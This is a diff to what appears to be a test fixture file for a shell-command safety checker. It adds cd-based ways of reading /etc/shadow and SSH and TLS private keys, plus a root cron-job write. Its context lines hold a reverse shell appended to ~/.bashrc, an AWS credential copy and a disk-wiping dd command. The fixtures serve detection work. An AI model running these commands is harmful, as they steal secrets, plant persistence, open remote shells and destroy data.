@@ -15,6 +15,11 @@ READ = [
     "cp ~/.aws/credentials /tmp/x",
     "strings /proc/self/environ",
     "if true; then cat /etc/sudoers; fi",
+    "cd /etc; cat shadow",
+    "a=/etc; cd $a && cat ./shadow",
+    "cd /etc && cd ssl && cat private/key.pem",
+    "cd ~/.ssh && cat id_ed25519",
+    "pushd /etc > /dev/null && head -1 < shadow",
 ]
 
 WRITTEN = [
@@ -29,6 +34,7 @@ WRITTEN = [
     "echo 'bash -i >& /dev/tcp/192.0.2.1/5 0>&1' >> ~/.bashrc",
     "cat <<E >/etc/profile.d/x.sh\nid\nE",
     "dd if=image of=/dev/sda",
+    "cd /etc/cron.d && echo '* * * * * root id' > x",
 ]
 
 ONLY_NAMED = [
@@ -39,6 +45,10 @@ ONLY_NAMED = [
     "stat /etc/shadow",
     "[ -f /etc/shadow ] && echo yes",
     "[[ -r /etc/shadow ]] && echo yes",
+    "cd /etc && cat hostname",
+    "cd /etc; ls -l shadow",
+    "cd src && cat shadow.css",
+    "ls -ld /root /boot",
 ]
 
 OWN = [
